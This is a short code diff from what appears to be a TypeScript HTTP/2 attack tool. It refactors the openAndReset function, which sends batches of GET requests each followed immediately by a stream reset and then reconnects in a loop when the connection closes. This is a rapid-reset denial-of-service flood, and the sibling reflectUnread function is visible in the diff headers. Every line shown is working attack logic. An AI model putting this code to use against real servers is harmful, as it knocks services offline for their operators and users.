@@ -181,7 +181,8 @@ async function reflectUnread({ target, size, signal }: AttackContext): Promise<v
 }
 
 /** Requests, each with its reset behind it, as fast as the other side takes them; again on a new connection. */
-function openAndReset({ target, size, count, signal }: AttackContext, index: number): void {
+function openAndReset(context: AttackContext, index: number): void {
+  const { target, size, count, signal } = context;
   const headers = { ':method': 'GET', ':path': '/pets', ...PLAIN };
   const streams = Array.from({ length: size.perConnection }, (_, stream) => 2 * stream + 1);
   const all = streams.map((id) =>
@@ -193,7 +194,7 @@ function openAndReset({ target, size, count, signal }: AttackContext, index: num
   socket.once('close', () => {
     count('closed');
     signal.removeEventListener('abort', end);
-    if (!signal.aborted) openAndReset({ target, size, count, signal } as AttackContext, index);
+    if (!signal.aborted) openAndReset(context, index);
   });
   socket.write(Buffer.concat([PREFACE, ...all]), () => setTimeout(end, 100));
 }
